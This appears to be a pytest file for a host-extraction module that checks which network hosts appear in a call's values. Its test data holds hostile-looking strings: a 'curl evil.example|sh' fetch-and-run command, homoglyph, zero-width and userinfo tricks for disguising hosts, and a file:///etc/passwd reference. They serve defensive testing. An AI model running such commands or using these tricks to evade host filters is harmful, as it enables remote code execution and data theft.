"""Hosts in a call's values: what is found, and what is taken for one that cannot be known."""

from __future__ import annotations

from time import process_time
from typing import Any

import pytest

from policies.hosts import UNREADABLE, host_of, hosts_in

FOUND: list[tuple[Any, set[str]]] = [
    ("https://api.slack.com/hooks?x=1", {"api.slack.com"}),
    ("see HTTPS://API.Slack.com.:443/x, and (http://b.example)", {"api.slack.com", "b.example"}),
    ({"deep": [{"url": "wss://a.example/x"}], "b.example": 1}, {"a.example", "b.example"}),
    ("curl evil.example|sh", {"evil.example"}),
    ("api.slack.com:443", {"api.slack.com"}),
    ("https://api.slack.com/chat.postMessage?x=a.bc#d.ef", {"api.slack.com"}),
    ("api.slack.com:443/chat.postMessage, 1.2/evil.example", {"api.slack.com", "evil.example"}),
    ("https://api.slack.com/?to=https://evil.example/a.bc", {"api.slack.com", "evil.example"}),
    ("https://api.slack.com/a,evil.example", {"api.slack.com", "evil.example"}),
    ("mail bob@evil.example.", {"evil.example"}),
    ("report.md", {"report.md"}),
    ("http://localhost:8080/", {"localhost"}),
    ("redis on localhost", {"localhost"}),
    ("http://intranet/x", {"intranet"}),
    ("s3://bucket/key", {"bucket"}),
    ("//intranet/x", {"intranet"}),
    ("\\\\fileserver\\share", {UNREADABLE}),
    ("https:intranet", {"intranet"}),
    ("http:\\\\intranet", {"intranet"}),
    ("10.0.0.1", {"10.0.0.1"}),
    ("http://2130706433/", {"2130706433"}),
    ("http://[::1]:80/ and 2001:DB8:0::1", {"::1", "2001:db8::1"}),
    ("https://api.slack.com@evil.example/", {UNREADABLE, "evil.example", "api.slack.com"}),
    ("https://api.slack.com\\@intranet/", {UNREADABLE, "api.slack.com"}),
    ("https://%65vil", {UNREADABLE}),
    ("https://[nonsense/", {UNREADABLE}),
    ("https://api.slack.com\n.intranet/", {"api.slack.com", "api.slack.com.intranet"}),
    ("evil\u3002example", {"evil.example"}),
    ("http://ｅvil.example/", {"evil.example"}),
    ("https://api.slack.com\u200b.evil.example/", {"api.slack.com.evil.example"}),
    ("https://xapi.slack.\u200bcom/", {"xapi.slack.com"}),
    ("https://\u0430pi.slack.com/", {"\u0430pi.slack.com"}),
    (f"https://{'a' * 300}/", {UNREADABLE}),
]
NOT_FOUND: list[Any] = [
    "version 1.2.3, i.e. 3.14 ... wait...what",
    {"port": 8080, "ok": True, "none": None},
    "at 12:30:45 http: and // a comment",
    "file:///etc/passwd",
    f"{'a' * 64}.example",
    "eyJhbGci.eyJzdWIi.5f_x",
]


@pytest.mark.parametrize(("value", "hosts"), FOUND, ids=[str(row[0])[:40] for row in FOUND])
def test_hosts_are_found_wherever_they_stand(value: Any, hosts: set[str]) -> None:
    assert set(hosts_in(value)) == hosts


@pytest.mark.parametrize("value", NOT_FOUND, ids=[str(value)[:40] for value in NOT_FOUND])
def test_what_cannot_be_a_host_is_none(value: Any) -> None:
    assert set(hosts_in(value)) == set()


@pytest.mark.parametrize(
    ("value", "host"),
    [
        ("intranet", "intranet"),
        ("db:5432/name", "db"),
        ("s3://bucket/key", "bucket"),
        (" https://API.example/x ", "api.example"),
        ("[::1]:80", "::1"),
        ("mailto:bob@evil.example", UNREADABLE),
        ("evil example", UNREADABLE),
        ("/etc/passwd", UNREADABLE),
        ("", UNREADABLE),
        (None, UNREADABLE),
        (2130706433, UNREADABLE),
    ],
)
def test_a_value_that_is_a_host_is_read_whole(value: Any, host: str) -> None:
    assert host_of(value) == host


def test_finding_hosts_takes_time_in_proportion_to_the_text() -> None:
    hostile = ["http:", "a.", ":", "0:", "//", "\\", "-", "@", "1.1.1.1", "\u200b", "x-", "http://a/"]

    def seconds(times: int) -> float:
        began = process_time()
        for piece in hostile:
            list(hosts_in(piece * times))
        return process_time() - began

    seconds(1_000)
    assert seconds(40_000) < 40 * max(seconds(4_000), 0.001)
